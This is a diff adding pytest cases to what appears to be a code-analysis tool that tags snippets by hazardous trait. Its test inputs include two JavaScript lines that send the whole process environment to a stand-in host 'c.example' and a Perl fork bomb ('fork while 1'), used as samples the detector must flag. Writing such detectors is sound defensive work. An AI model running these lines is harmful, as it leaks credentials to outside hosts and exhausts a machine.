@@ -385,3 +385,20 @@ def test_every_language_of_the_table_has_its_reader(language: str) -> None:
 def test_all_readers_can_be_loaded_beforehand() -> None:
     """A process that stays loads every reader at its start."""
     assert len(set(LANGUAGES.values())) == load_all()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})",
+        "require('https').request({host: 'c.example'}).end(JSON.stringify(process.env))",
+    ],
+)
+def test_all_variables_at_once_are_secrets(text: str) -> None:
+    """The whole environment holds keys, whatever it is wrapped in."""
+    assert any(Trait.SENDS_SECRET in op.traits for op in read("javascript", text).operations)
+
+
+def test_perl_that_forks_for_ever_is_a_bomb() -> None:
+    """A loop without an end that does nothing but fork fills the machine."""
+    assert any(Trait.FORK_BOMB in op.traits for op in read("perl", "fork while 1").operations)
